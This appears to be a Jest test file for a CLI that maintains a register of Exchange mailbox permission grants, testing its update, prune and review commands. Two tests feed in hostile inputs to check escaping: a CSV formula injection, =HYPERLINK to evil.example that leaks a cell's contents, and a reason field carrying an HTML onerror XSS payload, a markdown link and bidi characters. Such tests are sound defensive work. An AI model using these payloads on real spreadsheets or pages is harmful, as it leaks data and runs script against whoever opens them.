import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeEach, describe, expect, test } from '@jest/globals';
import { isObject, type Json, type JsonObject } from '../../../src/json.ts';
import { newFolder } from '../../support/new-folder.ts';
import { parsedCsv } from '../../support/parsed-csv.ts';
import { rowsFileOf, storedLines, storedRun, type StoredResult } from '../../support/rows-file.ts';
import { zipped } from '../../support/zip.ts';
import { runProgram, type ProgramRun } from '../command-line.ts';

const TODAY = '2026-10-01';
const SID = 'S-1-5-21-1-2-3-1104';
const ACCOUNT = '11111111-2222-4333-8444-555555555555';
const HEADER = 'MailboxName,MailboxId,Trustee,TrusteeId,Right,Reason,Owner,Until,ReviewedOn';

let folder: string;
beforeEach(() => {
  folder = newFolder();
});

function program(...args: readonly string[]): Promise<ProgramRun> {
  return runProgram(args, {}, folder, { now: () => Date.parse(`${TODAY}T09:00:00Z`) });
}

const write = async (file: string, text: string | Buffer): Promise<void> => {
  await mkdir(path.dirname(path.join(folder, file)), { recursive: true });
  await writeFile(path.join(folder, file), text);
};
const read = (file: string): Promise<string> => readFile(path.join(folder, file), 'utf8');

/** Trustee, right, and what identifies the trustee. */
type Grant = readonly [trustee: string, right: string, id?: string];

/** A mailbox by its grants; undefined if they could not be read. */
type Mailboxes = Readonly<Record<string, readonly Grant[] | undefined>>;

/** The rows of a run with `mailbox-permissions` and `calendar-permissions`. */
function report(mailboxes: Mailboxes, started = '2026-09-30T05:00:00.000Z', access: readonly (readonly Json[])[] = []) {
  const isCalendar = ([, right]: Grant): boolean => right.startsWith('Calendar: ');
  const resultsOf = (grants: readonly Grant[] | undefined): readonly StoredResult[] => {
    if (grants === undefined) return [{ status: 'failed' }, { status: 'failed' }, { status: 'failed' }];
    return [
      { rows: grants.filter((one) => !isCalendar(one)).map(([trustee, right]) => [right, trustee, false, false]) },
      {
        rows: grants.filter(isCalendar).map(([trustee, right]) => [trustee, trustee, right.slice(10), [], true, true]),
      },
      { rows: access },
    ];
  };
  const columns = {
    'mailbox-permissions': ['Right', 'Trustee', 'Inherited', 'Deny'],
    'calendar-permissions': [
      'GrantedTo',
      'GrantedToAddress',
      'Role',
      'AllowedRoles',
      'InsideOrganization',
      'Removable',
    ],
    access: ['Trustee', 'TrusteeName', 'Right', 'Through', 'Inside'],
  };
  const run = storedRun({
    started,
    reports: Object.fromEntries(Object.entries(columns).map(([name, own]) => [name, { columns: own, many: true }])),
    mailboxes: Object.fromEntries(Object.entries(mailboxes).map(([address, grants]) => [address, resultsOf(grants)])),
  });
  const lines = storedLines(run).map((line) => {
    const { mailbox } = line;
    const grants = typeof mailbox === 'string' ? (mailboxes[mailbox] ?? []) : [];
    return typeof mailbox === 'string'
      ? { ...line, ids: { account: ACCOUNT }, reports: identified(line.reports, grants) }
      : line;
  });
  return rowsFileOf(lines);
}

/** The results of a mailbox, with the IDs of the trustees in the first one. */
function identified(reports: Json | undefined, grants: readonly Grant[]): Json {
  const [first, ...others] = Array.isArray(reports) ? reports : [];
  const result: JsonObject = typeof first === 'object' && first !== null && !Array.isArray(first) ? first : {};
  const own = grants.filter(([, right]) => !right.startsWith('Calendar: '));
  const rows = (Array.isArray(result.rows) ? result.rows : []).map((row, at) => {
    const id = own[at]?.[2];
    return typeof row !== 'object' || Array.isArray(row) || id === undefined
      ? row
      : { ...row, identity: { TrusteeId: id } };
  });
  return [{ ...result, rows }, ...others];
}

const GRANTS: Mailboxes = {
  'sales@contoso.com': [
    ['bob@contoso.com', 'SendAs', SID],
    ['adele@contoso.com', 'FullAccess'],
    ['adele@contoso.com', 'Calendar: write'],
  ],
  'info@contoso.com': [['adele@contoso.com', 'FullAccess']],
};

describe('update', () => {
  test('writes the first register, sorted, with IDs and the owner, and without a review', async () => {
    await write('report.zip', zipped([['rows.ndjson.gz', report(GRANTS)]]));
    const run = await program(
      'register',
      'update',
      'report.zip',
      '--register',
      'grants.csv',
      '--owner',
      'cfo@contoso.com',
    );
    expect(run).toEqual({ code: 0, stdout: 'grants.csv: 4 lines added, 0 kept\n', stderr: '' });
    expect(await read('grants.csv')).toBe(
      `${HEADER}
info@contoso.com,${ACCOUNT},adele@contoso.com,,FullAccess,,cfo@contoso.com,,
sales@contoso.com,${ACCOUNT},adele@contoso.com,,Calendar: write,,cfo@contoso.com,,
sales@contoso.com,${ACCOUNT},adele@contoso.com,,FullAccess,,cfo@contoso.com,,
sales@contoso.com,${ACCOUNT},bob@contoso.com,${SID},SendAs,,cfo@contoso.com,,
`,
    );
  });

  test('adds only what is new, and keeps what people wrote, columns, separator, mark and line ends', async () => {
    const kept = 'sales@contoso.com;SENDAS;Bob@contoso.com;invoices;K-17';
    await write('grants.csv', `\uFEFFMailboxName;Right;Trustee;Reason;Cost centre\r\n${kept}\r\n`);
    await write('report/rows.ndjson.gz', report(GRANTS));
    const run = await program('register', 'update', 'report', '--register', 'grants.csv');
    expect(run.stdout).toBe('grants.csv: 3 lines added, 1 kept\n');
    const text = await read('grants.csv');
    expect(text).toBe(
      [
        '\uFEFFMailboxName;Right;Trustee;Reason;Cost centre;MailboxId',
        `info@contoso.com;FullAccess;adele@contoso.com;;;${ACCOUNT}`,
        `sales@contoso.com;Calendar: write;adele@contoso.com;;;${ACCOUNT}`,
        `sales@contoso.com;FullAccess;adele@contoso.com;;;${ACCOUNT}`,
        'sales@contoso.com;SendAs;Bob@contoso.com;invoices;K-17;',
        '',
      ].join('\r\n'),
    );
    expect((await program('register', 'update', 'report', '--register', 'grants.csv')).stdout).toContain(
      '0 lines added',
    );
    expect(await read('grants.csv')).toBe(text);
  });

  test('does not repeat rights of other files of the register, and refuses a file of another register', async () => {
    await write('policy.yml', 'rules: []\nregister: { files: registers/*.csv }\n');
    await write('registers/info.csv', 'MailboxName,Trustee,Right\ninfo@contoso.com,adele@contoso.com,FullAccess\n');
    await write('report/rows.ndjson.gz', report(GRANTS));
    const update = (file: string) =>
      program('register', 'update', 'report', '--register', file, '--policy', 'policy.yml');
    expect((await update('registers/sales.csv')).stdout).toContain('3 lines added');
    expect(await read('registers/sales.csv')).not.toContain('info@');
    expect(await update('grants.csv')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('has another register'),
    });
  });

  test('writes a person who got the address of another beside that line, and no formula', async () => {
    const other = 'S-1-5-21-1-2-3-9999';
    const formula = `=HYPERLINK("https://evil.example/?"&A1)`;
    await write(
      'grants.csv',
      `MailboxName,Trustee,TrusteeId,Right\nsales@contoso.com,bob@contoso.com,${other},SendAs\n`,
    );
    const grants = { 'sales@contoso.com': [...(GRANTS['sales@contoso.com'] ?? []), [formula, 'FullAccess'] as const] };
    await write('report/rows.ndjson.gz', report(grants));
    await program('register', 'update', 'report', '--register', 'grants.csv');
    const text = await read('grants.csv');
    expect(text).toContain(`sales@contoso.com,bob@contoso.com,${other},SendAs,`);
    expect(text).toContain(`sales@contoso.com,bob@contoso.com,${SID},SendAs,`);
    const trustees = parsedCsv(text).map(({ Trustee }) => Trustee);
    expect(trustees).toContain(`'${formula}`);
    expect(text).not.toMatch(/(?:^|,)"?=/m);
    expect((await program('register', 'update', 'report', '--register', 'grants.csv')).stdout).toContain(
      '0 lines added',
    );
  });
});

test('prune removes and names the lines whose rights are gone, and keeps those of mailboxes that were not read', async () => {
  const lines = [
    'MailboxName,Trustee,Right,Reason',
    'unread@contoso.com,adele@contoso.com,FullAccess,b',
    'info@contoso.com,adele@contoso.com,FullAccess,a',
    'info@contoso.com,gone@contoso.com,FullAccess,c',
    '*,scanner@contoso.com,FullAccess,d',
    'missing@contoso.com,adele@contoso.com,FullAccess,e',
  ];
  await write('grants.csv', `${lines.join('\n')}\n`);
  await write('report/rows.ndjson.gz', report({ ...GRANTS, 'unread@contoso.com': undefined }));
  expect(await program('register', 'prune', 'report', '--register', 'grants.csv')).toEqual({
    code: 0,
    stdout: '  line 4: info@contoso.com  gone@contoso.com  FullAccess\ngrants.csv: 1 line removed, 4 kept\n',
    stderr: '',
  });
  expect(await read('grants.csv')).toBe(`${lines.filter((line) => !line.includes('gone@')).join('\n')}\n`);
});

test('prune keeps lines about every mailbox if the report has single mailboxes', async () => {
  const line = '*,scanner@contoso.com,FullAccess';
  await write('grants.csv', `MailboxName,Trustee,Right\n${line}\nsales@contoso.com,gone@contoso.com,FullAccess\n`);
  const lines = storedLines(report(GRANTS)).map((one) =>
    isObject(one.list) ? { ...one, list: { ...one.list, files: ['arguments'] } } : one,
  );
  await write('report/rows.ndjson.gz', rowsFileOf(lines));
  expect((await program('register', 'prune', 'report', '--register', 'grants.csv')).stdout).toContain(
    '1 line removed, 1 kept',
  );
  expect(await read('grants.csv')).toContain(line);
});

describe('review', () => {
  const POLICY = 'rules: []\nregister: { files: grants.csv, review-every: 180d }\n';
  const LINES = [
    HEADER,
    'sales@contoso.com,,bob@contoso.com,,SendAs,invoices,cfo@contoso.com,2026-09-30,2026-08-01',
    'sales@contoso.com,,adele@contoso.com,,FullAccess,absences,cfo@contoso.com,,2026-01-31',
    'info@contoso.com,,adele@contoso.com,,FullAccess,,cfo@contoso.com,,2026-09-01',
  ];
  beforeEach(async () => {
    await write('policy.yml', POLICY);
    await write('grants.csv', `${LINES.join('\n')}\n`);
  });
  const review = (...more: readonly string[]) =>
    program('register', 'review', '--register', 'grants.csv', '--due', '2026-12-31', ...more);

  test('sets the day in the lines that are due by then, by the interval of the policy, and leaves the others alone', async () => {
    const run = await review('--policy', 'policy.yml');
    expect(run).toMatchObject({ code: 0, stderr: '' });
    expect(run.stdout).toContain('2 of 3 lines are due. ReviewedOn is 2026-10-01 in them.');
    const expected = [
      LINES[0],
      LINES[1],
      LINES[2]?.replace('2026-01-31', TODAY),
      LINES[3]?.replace('2026-09-01', TODAY),
    ];
    expect(await read('grants.csv')).toBe(`${expected.join('\n')}\n`);
  });

  test('sets it in all lines without an interval', async () => {
    expect((await review()).stdout).toContain('3 of 3 lines are due');
  });

  test('has a page with reason, end, since when and what reaches the mailboxes besides', async () => {
    const { 'sales@contoso.com': [bob, ...others] = [], ...info } = GRANTS;
    const mailboxes = bob === undefined ? {} : { ...info, 'sales@contoso.com': [bob] };
    await write('reports/1.ndjson.gz', report(mailboxes, '2026-07-01T05:00:00Z'));
    await write('reports/2.ndjson.gz', report({ ...info, 'sales@contoso.com': others }, '2026-08-01T05:00:00Z'));
    const access = [
      ['adele@contoso.com', 'Adele', 'FullAccess', 'direct', true],
      ['eve@fabrikam.com', 'Eve', 'SendOnBehalf', 'agency@contoso.com', false],
      ['box@fabrikam.com', 'Box', 'Forwarding', 'direct', false],
    ];
    await write(
      'reports/3.ndjson.gz',
      report({ ...info, 'sales@contoso.com': others }, '2026-09-01T05:00:00Z', access),
    );
    const { stdout } = await review('--markdown', 'reports');
    expect(stdout).toMatch(/^## Review of grants\.csv by 2026-12-31\n/);
    const rowOf = (text: string): string => stdout.split('\n').find((line) => line.includes(text)) ?? '';
    expect(rowOf('Send as')).toBe(
      '| `sales@contoso.com` | `bob@contoso.com` | Send as | invoices | `cfo@contoso.com` | 2026-09-30 (**over**) | 2026-08-01 | **does not exist any more** |',
    );
    expect(rowOf('absences')).toMatch(/2026-01-31 \| 2026-08-01 \|$/);
    expect(rowOf('info@contoso.com` | `adele')).toContain(
      '| **missing** | `cfo@contoso.com` |  | 2026-09-01 | 2026-07-01 or earlier |',
    );
    expect(stdout).toContain(
      '| `sales@contoso.com` | `eve@fabrikam.com` | Send on behalf through `agency@contoso.com` |',
    );
    expect(stdout).toContain('| `sales@contoso.com` | `box@fabrikam.com` | Gets mail by forwarding |');
    expect(stdout).not.toContain('| `sales@contoso.com` | `adele@contoso.com` | Full access |\n');
    expect(stdout).toContain('By 3 reports from 2026-07-01 to 2026-09-01.');
  });

  test('escapes what people wrote in file and page', async () => {
    const reason = '"=1+1|<img src=x onerror=alert(1)> @everyone [a](https://evil.example) \u202e\u0007#1"';
    await write(
      'grants.csv',
      `${HEADER},=2\nsales@contoso.com,,bob@contoso.com,,SendAs,${reason},cfo@contoso.com,,,+3\n`,
    );
    const { stdout } = await review('--markdown');
    const line = stdout.split('\n').find((one) => one.includes('img')) ?? '';
    expect(line).not.toMatch(/<img|@everyone(?!`)|\]\(|[\u202e]/);
    expect(line.match(/(?<!\\)\|/g)).toHaveLength(9);
    const text = await read('grants.csv');
    expect(text).not.toMatch(/(?:^|,)"?[=+@]/m);
    expect(Object.keys(parsedCsv(text)[0] ?? {})).toContain("'=2");
    const again = await review('--markdown');
    expect(again.stdout.split('\n').find((one) => one.includes('img'))).toBe(line.replace('never', TODAY));
    expect(await read('grants.csv')).toBe(text);
  });

  test.each<[string, Readonly<Record<string, string>>, string, number?]>([
    [
      'a right that is misspelt',
      { 'grants.csv': 'MailboxName,Trustee,Right\na@b.c,d@b.c,FulAccess\n' },
      'Did you mean "FullAccess"?',
    ],
    [
      'a date that is none',
      { 'grants.csv': `${HEADER}\na@b.c,,d@b.c,,SendAs,,,2026-02-30,\n` },
      'Until cannot be "2026-02-30"',
    ],
    [
      'an entry in two files',
      { 'policy.yml': POLICY.replace('grants.csv', '"*.csv"'), 'more.csv': `${HEADER}\n${LINES[1]}\n` },
      'already in grants.csv, line 2',
    ],
    [
      'a policy with another register',
      { 'policy.yml': POLICY.replace('grants', 'other'), 'other.csv': LINES.join('\n') },
      'another register',
      2,
    ],
    ['a policy without a register', { 'policy.yml': 'rules: []\n' }, 'names no register', 2],
    ['a file that is missing', { 'grants.csv': '' }, 'empty'],
  ])('refuses %s, and changes nothing', async (_, files, message, code = 1) => {
    for (const [name, text] of Object.entries(files)) await write(name, text);
    const before = await read('grants.csv');
    expect(await review('--policy', 'policy.yml')).toMatchObject({
      code,
      stderr: expect.stringContaining(message),
    });
    expect(await read('grants.csv')).toBe(before);
  });

  test('of an owner without lines has nothing to review', async () => {
    await write('policy.yml', POLICY.replace('grants.csv', '"*.csv"'));
    await write('none.csv', `${HEADER}\n`);
    const run = await program(
      'register',
      'review',
      '--register',
      'none.csv',
      '--due',
      '2026-12-31',
      '--policy',
      'policy.yml',
    );
    expect(run).toMatchObject({ code: 0, stdout: expect.stringContaining('There is nothing to review.') });
    expect(await read('none.csv')).toBe(`${HEADER}\n`);
  });

  test('refuses a day that does not exist, and a report that is none', async () => {
    const due = (text: string) => program('register', 'review', '--register', 'grants.csv', '--due', text);
    expect(await due('2026-02-30')).toMatchObject({ code: 2 });
    expect(await due('2026-12-31T12:00:00Z')).toMatchObject({ code: 2 });
    expect(await review('nowhere')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('no such file or folder'),
    });
    await write('empty/x.txt', '');
    expect(await review('empty')).toMatchObject({ code: 1, stderr: expect.stringContaining('It has no rows.') });
    expect(await read('grants.csv')).toBe(`${LINES.join('\n')}\n`);
  });
});
